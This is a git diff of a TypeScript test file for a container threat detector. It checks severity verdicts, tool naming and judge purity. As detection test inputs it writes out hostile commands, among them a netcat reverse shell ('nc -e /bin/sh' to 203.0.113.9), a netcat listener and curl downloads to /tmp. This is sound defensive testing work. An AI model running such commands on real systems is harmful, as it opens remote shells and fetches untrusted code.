@@ -1,8 +1,12 @@
+import { readFileSync } from 'node:fs';
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
+import { eventOf } from '../../src/commands/judge.ts';
 import { defaultDetectConfig, detectSchema } from '../../src/detect/config.ts';
 import { exampleEvent } from '../../src/detect/examples.ts';
 import { createDetector } from '../../src/detect/index.ts';
+import { indicators } from '../../src/detect/indicators/index.ts';
+import { mitigations } from '../../src/detect/mitigations/index.ts';
 import { categories, tools } from '../../src/detect/tools/index.ts';
 import type { NoteEntry } from '../../src/model/intake.ts';
 
@@ -19,7 +23,9 @@ describe('memory', () => {
     const medium = exampleEvent({ run: 'nc -lvnp4444' });
     expect(detector.judge(medium, { seen_before: 100 }).severity).toBe('medium');
     const hard = exampleEvent({ run: 'nc -e /bin/sh 203.0.113.9 1' });
-    expect(detector.judge(hard, { seen_before: 100 })).toEqual(detector.judge(hard));
+    expect(JSON.stringify(detector.judge(hard, { seen_before: 100 }))).toBe(
+      JSON.stringify(detector.judge(hard)),
+    );
   });
   test('lowering by memory can be switched off', () => {
     const stubborn = createDetector({ ...defaultDetectConfig(), seen_before_lowers: 0 });
@@ -42,6 +48,58 @@ describe('memory', () => {
       indicators: [{ id: 'chain_download_run' }],
     });
     expect(detector.judge(exampleEvent({ run: '/tmp/other' }), { chain }).severity).toBe('none');
+  });
+});
+
+describe('an event that names a tool by itself', () => {
+  const chain = [{ step: 'download' as const, text: 'curl -o /tmp/x http://h/x', time: '', path: '/tmp/x' }];
+  const examples = [...indicators, ...mitigations].flatMap(({ examples: all }) => [
+    ...all.fires,
+    ...all.silent,
+  ]);
+  const events = examples.map(exampleEvent);
+  const corpus = readFileSync(new URL('../corpus/dev.jsonl', import.meta.url), 'utf8')
+    .trimEnd()
+    .split('\n');
+  for (const [at, line] of corpus.entries()) {
+    const { event } = eventOf(line, at + 1, 'corpus');
+    if (event !== undefined) events.push(event);
+  }
+  const joined = events.map((event) => ({
+    ...event,
+    sensor: 'falco' as const,
+    process: { ...event.process, argv_quality: 'split' as const },
+  }));
+  const all = [...events, ...joined];
+
+  test('has a verdict with a tool, whatever is added to it and whatever came before', () => {
+    const known = {
+      container: { mounts: [{ destination: '/', type: 'tmpfs' }], probes: [['true']], privileged: true },
+      image: { repository: 'docker.io/curlimages/curl' },
+      file: { in_mount: true, upper_layer: true },
+    };
+    const named = all.filter((event) => detector.names(event));
+    expect(named.length).toBeGreaterThan(all.length / 3);
+    for (const event of named) {
+      const added = {
+        ...event,
+        container: { ...event.container!, ...known.container },
+        image: known.image,
+        process: { ...event.process, container_process: true, file: known.file },
+      };
+      for (const one of [event, added])
+        for (const state of [{}, { seen_before: 9 }, { chain }])
+          expect(detector.judge(one, state).tool, JSON.stringify(event)).toBeTypeOf('string');
+    }
+  });
+
+  test('is none where it opens nothing, is one of the host, or says it in a string only', () => {
+    const { container: _container, ...ofHost } = exampleEvent({ run: 'nc h 1' });
+    expect(detector.names(exampleEvent({ run: 'nc h 1' }))).toBe(true);
+    expect(detector.names(ofHost)).toBe(false);
+    expect(detector.names(exampleEvent({ run: "sh -c 'nc h 1'" }))).toBe(false);
+    expect(detector.names(exampleEvent({ run: 'python3 -c 1' }))).toBe(false);
+    expect(detector.names(exampleEvent({ run: 'ls' }))).toBe(false);
   });
 });
 
@@ -200,7 +258,7 @@ describe('the configuration', () => {
 test('judging is a pure function: the same event gives the same verdict and stays untouched', () => {
   const event = exampleEvent({ run: 'curl -s http://203.0.113.9/x -o /tmp/x', by: ['sh', 'nginx'] });
   const before = JSON.stringify(event);
-  expect(detector.judge(event)).toEqual(detector.judge(event));
+  expect(JSON.stringify(detector.judge(event))).toBe(JSON.stringify(detector.judge(event)));
   expect(JSON.stringify(event)).toBe(before);
 });
 
